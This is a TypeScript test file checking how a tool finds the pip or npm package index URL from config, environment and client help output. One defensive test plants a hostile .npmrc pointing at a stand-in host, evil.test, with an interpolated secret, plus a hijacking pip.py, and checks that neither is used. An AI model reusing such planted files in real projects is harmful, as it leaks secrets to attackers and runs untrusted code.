import { execFileSync } from 'node:child_process';
import { chmod, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { describe, expect, it, onTestFinished, vi } from 'vitest';
import { temporaryFolder } from '../testing/helpers.ts';
import { findIndex } from './index-config.ts';
import type { PackageRequest } from './package-request.ts';

const lib: PackageRequest = { registry: 'pypi', name: 'lib' };
const tool: PackageRequest = { registry: 'npm', name: 'tool' };
const scoped: PackageRequest = { registry: 'npm', name: '@some/tool' };

/** Makes a folder of clients that are shell scripts. */
async function clients(scripts: Readonly<Record<string, string>>): Promise<NodeJS.ProcessEnv> {
  const folder = temporaryFolder();
  for (const [name, script] of Object.entries(scripts)) {
    await writeFile(join(folder, name), `#!/bin/sh\n${script}\n`);
    await chmod(join(folder, name), 0o755);
  }
  return { PATH: folder };
}

/** Script that answers a command, and fails for others. */
const answers = (cases: Readonly<Record<string, string>>): string =>
  [
    'case "$*" in',
    ...Object.entries(cases).map(([words, text]) => `"${words}") echo "${text}";;`),
    '*) exit 1;;',
    'esac',
  ].join('\n');

function works(command: string, ...words: string[]): boolean {
  try {
    execFileSync(command, words, { stdio: 'ignore' });
    return true;
  } catch {
    return false;
  }
}

describe.skipIf(process.platform === 'win32')('findIndex', () => {
  it('takes what pip is configured to use, else the default in its help; first of all the environment', async () => {
    const help = '  -i, --index-url <url>  Base URL of the index (default http://default.test/simple). More.';
    const settings = "global.index-url='http://configured.test/simple'\ninstall.user='no'";
    const configured = await clients({ python3: answers({ '-m pip config list': settings }) });
    const plain = await clients({ python3: 'exit 1', pip: answers({ 'install --help': help }) });
    expect((await findIndex(lib, configured)).url).toBe('http://configured.test/simple/');
    expect((await findIndex(lib, plain)).url).toBe('http://default.test/simple/');
    const env = { ...configured, PIP_INDEX_URL: 'http://env.test/simple/' };
    expect((await findIndex(lib, env)).url).toBe('http://env.test/simple/');
  });

  it('takes what npm is configured to use: for a scope, for all', async () => {
    const npm = {
      'config get @some:registry --global': 'http://some.test/npm/',
      'config get @other:registry --global': 'undefined',
      'config get registry --global': 'http://all.test/',
    };
    const env = await clients({ npm: answers(npm) });
    expect((await findIndex(scoped, env)).url).toBe('http://some.test/npm/');
    expect((await findIndex({ ...scoped, name: '@other/tool' }, env)).url).toBe('http://all.test/');
    expect((await findIndex(tool, env)).url).toBe('http://all.test/');
    for (const name of ['npm_config_registry', 'NPM_CONFIG_REGISTRY'])
      expect((await findIndex(tool, { ...env, [name]: 'http://env.test/npm' })).url).toBe(
        'http://env.test/npm/',
      );
  });

  it('takes no other registry if npm does not tell that of a scope', async () => {
    const env = await clients({ npm: answers({ 'config get registry --global': 'http://all.test/' }) });
    await expect(findIndex(scoped, env)).rejects.toMatchObject({
      code: 'CORPUS_INDEX_URL',
      message: 'Expected a configured index of packages, or npm to tell its own, got neither.',
    });
    const set = { ...env, npm_config_registry: 'http://env.test/' };
    expect((await findIndex(scoped, set)).url).toBe('http://env.test/');
  });

  it.runIf(works('python3', '-m', 'pip', '--version'))('understands the pip that is installed', async () => {
    const file = join(temporaryFolder(), 'pip.conf');
    await writeFile(file, '[global]\nindex-url = http://me:secret@configured.test/simple\n');
    const env = { ...process.env, PIP_INDEX_URL: undefined };
    expect(await findIndex(lib, { ...env, PIP_CONFIG_FILE: file })).toEqual({
      url: 'http://configured.test/simple/',
      authorization: `Basic ${Buffer.from('me:secret').toString('base64')}`,
    });
    // Without configuration, the default in its help is all there is.
    const { url } = await findIndex(lib, { ...env, PIP_CONFIG_FILE: '/dev/null' });
    expect(url).toMatch(/^https:\/\/.*\/simple\/$/);
  });

  // reliability: folder-writer
  it('reads and runs nothing in the current folder, only the home folder of the user', async () => {
    const evil = `http://evil.test/\${SECRET}/`;
    const folder = temporaryFolder({
      'package.json': '{}',
      '.npmrc': `registry=${evil}\n@some:registry=${evil}\n`,
      'pip.py': `print("global.index-url='http://evil.test/'")`,
    });
    const home = temporaryFolder({ '.npmrc': `registry=http://home.test/\${SECRET}/\n` });
    const before = process.cwd();
    process.chdir(folder);
    onTestFinished(() => process.chdir(before));
    vi.stubEnv('HOME', home);
    onTestFinished(() => void vi.unstubAllEnvs());
    const plain = Object.entries(process.env).filter(([name]) => !/^(?:npm_config|pip)_/i.test(name));
    const env = { ...Object.fromEntries(plain), SECRET: 'secret' };
    expect((await findIndex(tool, env)).url).toBe('http://home.test/secret/');
    expect((await findIndex(scoped, env)).url).toBe('http://home.test/secret/');
    const ofPip = await findIndex(lib, env).catch(({ code }) => ({ url: code }));
    expect(ofPip.url).not.toContain('evil');
  });

  it('says what to set where there is no client', async () => {
    await expect(findIndex(lib, { PATH: '' })).rejects.toMatchObject({
      code: 'CORPUS_INDEX_URL',
      exitCode: 2,
      message: 'Expected a configured index of packages, or pip to tell its own, got neither.',
      hint: expect.stringMatching(/^set PIP_INDEX_URL to /),
    });
  });
});
